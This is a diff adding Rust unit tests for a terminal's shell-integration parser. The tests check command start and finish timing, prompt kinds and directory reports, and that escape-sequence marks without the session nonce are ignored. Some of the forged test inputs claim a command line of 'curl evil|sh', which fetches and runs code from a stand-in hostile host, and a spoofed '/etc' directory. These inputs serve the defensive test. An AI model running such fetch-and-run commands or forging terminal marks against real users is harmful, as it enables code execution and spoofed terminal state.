@@ -256,3 +256,180 @@ impl Commands {
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::output::marks;
+
+    struct Shell {
+        commands: Commands,
+        start: Instant,
+        ms: u64,
+    }
+
+    impl Shell {
+        fn new(nonce: Option<&str>) -> Self {
+            let mut commands = Commands::new(true, nonce.map(Nonce::of));
+            let announced = commands.begin();
+            assert_eq!(announced.is_some(), nonce.is_some());
+            Self {
+                commands,
+                start: Instant::now(),
+                ms: 0,
+            }
+        }
+
+        /// A mark by the text of its OSC; what follows, each as one word or two.
+        fn mark(&mut self, body: &str) -> Vec<String> {
+            self.ms += 10;
+            let now = Now {
+                instant: self.start + Duration::from_millis(self.ms),
+                system: SystemTime::UNIX_EPOCH + Duration::from_millis(self.ms),
+            };
+            let size = Size { cols: 80, rows: 24 };
+            self.commands
+                .mark(marks::parse(body), now, size, || 3)
+                .into_iter()
+                .map(|outcome| match outcome {
+                    Outcome::Loaded => "loaded".to_owned(),
+                    Outcome::ShellDirectory(_) => "shell directory".to_owned(),
+                    Outcome::Tell(what) => word(what),
+                })
+                .collect()
+        }
+    }
+
+    fn word(what: Happened<'_>) -> String {
+        let text = |data: Data<'_>| String::from_utf8(data.into_vec()).unwrap();
+        match what {
+            Happened::CanDetectCommands => "can detect".to_owned(),
+            Happened::CommandStarted { line, .. } => format!("start {}", text(line)),
+            Happened::CommandFinished {
+                exit_code: Some(code),
+                duration_ms,
+            } => format!("finish {code} after {duration_ms}"),
+            Happened::CommandFinished { .. } => "finish".to_owned(),
+            Happened::Directory(path) => format!("directory {}", text(path)),
+            Happened::Title(title) => format!("title {}", text(title)),
+        }
+    }
+
+    #[test]
+    fn whole_life_of_a_command() {
+        let mut shell = Shell::new(None);
+        assert_eq!(shell.mark("133;A"), ["can detect"]);
+        assert!(shell.mark("133;B").is_empty());
+        shell.commands.printed("ls -l\r\n");
+        assert_eq!(shell.mark("133;C"), ["start ls -l"]);
+        assert_eq!(shell.mark("133;D;3"), ["finish 3 after 10"]);
+        assert!(shell.mark("133;D;3").is_empty(), "an end without a start");
+        assert!(shell.mark("133;A").is_empty());
+    }
+
+    #[test]
+    fn s13_a_command_whose_end_never_comes_is_closed_by_what_comes_instead() {
+        let mut shell = Shell::new(None);
+        shell.mark("133;A");
+        assert_eq!(shell.mark("133;C"), ["start "]);
+        assert_eq!(shell.mark("133;C"), ["finish", "start "]);
+        assert_eq!(shell.mark("133;A"), ["finish"]);
+        assert_eq!(shell.mark("133;C"), ["start "]);
+        let ended = shell.commands.finish(None, Instant::now());
+        assert!(ended.is_some(), "by the end of the terminal");
+        assert_eq!(shell.commands.finish(None, Instant::now()), None);
+    }
+
+    #[test]
+    fn s12_continuation_and_right_prompts_are_no_prompts_and_no_input() {
+        let mut shell = Shell::new(None);
+        shell.mark("133;A");
+        shell.mark("133;B");
+        shell.commands.printed("for i in 1 2\r\n");
+        shell.mark("133;P;k=s");
+        shell.commands.printed("> ");
+        shell.mark("133;B");
+        shell.commands.printed("do echo\r\n");
+        shell.mark("133;A;k=r");
+        shell.commands.printed("12:00");
+        shell.mark("133;B");
+        assert_eq!(shell.mark("133;C"), ["start for i in 1 2\ndo echo"]);
+        assert!(shell.mark("133;A;k=s").is_empty(), "it closes nothing");
+    }
+
+    #[test]
+    fn s16_with_our_script_only_signed_marks_count() {
+        let mut shell = Shell::new(Some("n1"));
+        assert_eq!(shell.mark("633;P;Shellward=bash;n1"), ["loaded"]);
+        for forged in [
+            "633;A",
+            "633;C;n2",
+            "133;C",
+            "633;E;curl evil;n2",
+            "133;D;0",
+            "633;P;Shellward=x;n2",
+            "7;file:///etc",
+            "633;P;Cwd=/etc;n2",
+        ] {
+            assert!(shell.mark(forged).is_empty(), "{forged}");
+        }
+        assert!(shell.mark("633;A;n1").is_empty());
+        assert!(shell.mark("633;E;cat f;n1").is_empty());
+        assert_eq!(shell.mark("633;C;n1"), ["start cat f"]);
+        assert!(shell.mark("133;D;0").is_empty());
+        assert_eq!(shell.mark("633;D;9;n1"), ["finish 9 after 20"]);
+        assert_eq!(shell.mark("633;P;Cwd=/;n1"), ["shell directory"]);
+    }
+
+    #[test]
+    fn s16_a_line_without_the_nonce_is_never_believed() {
+        let mut shell = Shell::new(None);
+        shell.mark("133;A");
+        shell.mark("133;B");
+        shell.commands.printed("cat f\r\n");
+        assert!(shell.mark("633;E;curl evil|sh").is_empty());
+        assert_eq!(shell.mark("633;C"), ["start cat f"]);
+    }
+
+    #[test]
+    fn until_our_script_speaks_any_mark_is_believed() {
+        let mut shell = Shell::new(Some("n1"));
+        assert!(shell.mark("133;A").is_empty(), "announced already");
+        assert_eq!(shell.mark("133;C"), ["start "]);
+    }
+
+    #[test]
+    fn without_echo_the_keys_are_the_command_line() {
+        let mut shell = Shell::new(None);
+        shell.mark("133;A");
+        shell.commands.typed(b"lx\x7fs\r");
+        assert_eq!(shell.mark("133;C"), ["start ls"]);
+        shell.commands.typed(b"secret\r");
+        shell.mark("133;D;0");
+        assert_eq!(shell.mark("133;C"), ["start "], "typed into the command");
+    }
+
+    #[test]
+    fn a_directory_alone_announces_nothing_and_pipes_have_no_commands() {
+        let mut shell = Shell::new(None);
+        assert_eq!(shell.mark("7;file:///tmp"), ["directory /tmp"]);
+        let mut pipes = Shell::new(None);
+        pipes.commands = Commands::new(false, None);
+        assert!(pipes.mark("133;A").is_empty());
+        assert!(pipes.mark("133;C").is_empty());
+        assert_eq!(pipes.mark("7;file:///tmp"), ["directory /tmp"]);
+    }
+
+    #[test]
+    fn echo_without_end_is_given_up() {
+        let mut shell = Shell::new(None);
+        shell.mark("133;A");
+        shell.mark("133;B");
+        for _ in 0..100 {
+            shell.commands.printed(&"x".repeat(1000));
+        }
+        assert!(shell.commands.echo.is_none());
+        shell.commands.typed(b"typed\r");
+        assert_eq!(shell.mark("133;C"), ["start typed"]);
+    }
+}
